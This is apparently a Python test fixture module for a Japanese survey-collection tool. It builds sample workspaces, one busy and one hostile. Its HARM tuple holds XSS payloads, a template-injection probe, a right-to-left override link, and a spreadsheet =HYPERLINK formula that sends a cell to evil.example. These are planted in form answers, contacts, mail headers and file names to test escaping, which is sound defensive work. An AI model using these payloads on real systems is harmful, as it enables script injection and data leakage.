"""Workspaces in which the desk has everything to show: a busy round, and one in which every text wants to harm."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from survey_tool.form.contract.answers import Form
from survey_tool.form.contract.file_names import form_path
from survey_tool.form.contract.marker import CASE_ID_KEY
from survey_tool.form.workbook import draw
from survey_tool.post.lost_record import note_generated
from survey_tool.questionnaire.vocabulary.kinds.texts import FreeText
from survey_tool.reference.survey import open_survey
from survey_tool.reference.workspace import write_whole
from tests.commands import command
from tests.desks import returned
from tests.forms import case_of, filled, questions_of, the_survey
from tests.mails import eml, locked_xlsx

SETTINGS = (
    'round = "2026"\ndeadline = 2099-12-11\nsecond_deadline = 2099-12-18\n'
    '[secretariat]\nname = { ja = "調査事務局", en = "Survey office" }\n'
    'phone = "03-1111-2222"\nemail = "desk@example.lg.jp"\nreturn_address = "desk@example.lg.jp"\n'
    '[smtp]\nhost = "smtp.example.lg.jp"\n'
)
CODES = ("01", "02", "05", "13", "27")
"""The prefectures of which something came."""


def busy(folder: Path, settings: str = SETTINGS, extended_to: str = "2099-12-25") -> Path:
    """A round with something of everything: accepted, to correct, doubtful, locked, contradictory, of nobody, set aside; letters
    drafted, sent and of which nobody knows; lines of the record; a release, the one before, a preview."""
    _begun(folder, settings)
    submissions = folder / "submissions" / "2026"
    (submissions / "set-aside").mkdir(parents=True)
    mail = eml({"13.xlsx": returned("13")}, sender="東京都 <joho@pref.tokyo.example.lg.jp>", subject="調査票の提出")
    for name, content in {
        "北海道.xlsx": returned("01", wrong=True),
        "青森県.xlsx": returned("02", doubtful=True),
        "05_秋田県.xlsx": locked_xlsx(returned("05"), "ひみつ"),
        "東京都からのメール.eml": bytes(mail),
        "27.xlsx": returned("27"),
        "27（差替え）.xlsx": returned("27", wrong=True),
        "回答.xlsx": b"no workbook",
        "set-aside/13_旧.xlsx": returned("13", wrong=True),
    }.items():
        (submissions / name).write_bytes(content)
    for arguments in (
        ("mail", "invite"),
        ("record", "sent", "invite", "01", "13"),
        ("record", "note", "13", "電話で確認"),
        ("record", "extend", "02", extended_to),
        ("mail", "correct"),
        ("mail", "ask"),
    ):
        done = command(*arguments, workspace=folder)
        assert done.code in (0, 2), done.err
    for name in ("published/2026/data/cases.csv", "published/replaced/2026-1/cases.csv", "preview/2026/要約.docx"):
        write_whole(folder / name, b"")
    return folder


def _begun(folder: Path, settings: str = SETTINGS) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "survey.toml").write_text(settings, encoding="utf-8")
    rows = ["prefecture_code,department,person,email,kind"]
    survey = open_survey(folder)
    note_generated(survey, len(CODES))
    for code in CODES:
        write_whole(form_path(survey, code), draw(survey, Form(code)))
        rows.append(f"{code},情報政策課,,joho@pref{code}.example.lg.jp,to")
    (folder / "contacts.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")


HARM = (
    '<img src="x" onerror="window.hasRun = true">',
    '"><script>window.hasRun = true</script>',
    "</textarea></pre><svg onload='window.hasRun = true'>",
    '=HYPERLINK("http://evil.example/?"&A1,"見る")',
    "javascript:window.hasRun=true",
    "{{ 7 * 191 }}{% raw %}",
    "<a href='http://evil.example/'>‮lsx.</a>",
)
"""What a page would run, load or lead to, were it not text."""


def hostile_return(code: str, *, everywhere: bool) -> bytes:
    """A form in which every free text, or every answer, wants to harm."""
    paper, survey = filled(code), the_survey()
    case = case_of(code, 1)
    for number, (key, question) in enumerate(questions_of("cases").items()):
        if key != CASE_ID_KEY and (everywhere or isinstance(question.kind, FreeText)):
            paper.type("cases", key, HARM[number % len(HARM)], case)
    for number, (key, question) in enumerate(questions_of("respondent").items()):
        if everywhere or isinstance(question.kind, FreeText):
            paper.type("respondent", key, HARM[number % len(HARM)])
    return draw(survey, paper.form())


def hostile(folder: Path) -> Path:
    """A round whose contacts want to harm, with what came: in files, in an archive, in a mail."""
    _begun(folder)
    rows = (folder / "contacts.csv").read_text("utf-8").replace("情報政策課", '"' + HARM[0].replace('"', '""') + '"')
    (folder / "contacts.csv").write_text(rows, encoding="utf-8")
    return folder


def hostile_files() -> dict[str, bytes]:
    """What is dropped on the desk, by names that want to harm as well."""
    mail = eml(
        {"13.xlsx": hostile_return("13", everywhere=False)}, HARM[1], HARM[0], f'"{HARM[2]}" <joho@pref.example.lg.jp>'
    )
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(f"{HARM[0]}.xlsx", hostile_return("02", everywhere=True))
    return {
        f"{HARM[0].replace('/', '')}.eml": bytes(mail),
        "<b>北海道.xlsx": hostile_return("01", everywhere=True),
        "<script>.zip": packed.getvalue(),
        "27<svg onload=hasRun=true>.html": HARM[1].encode(),
    }
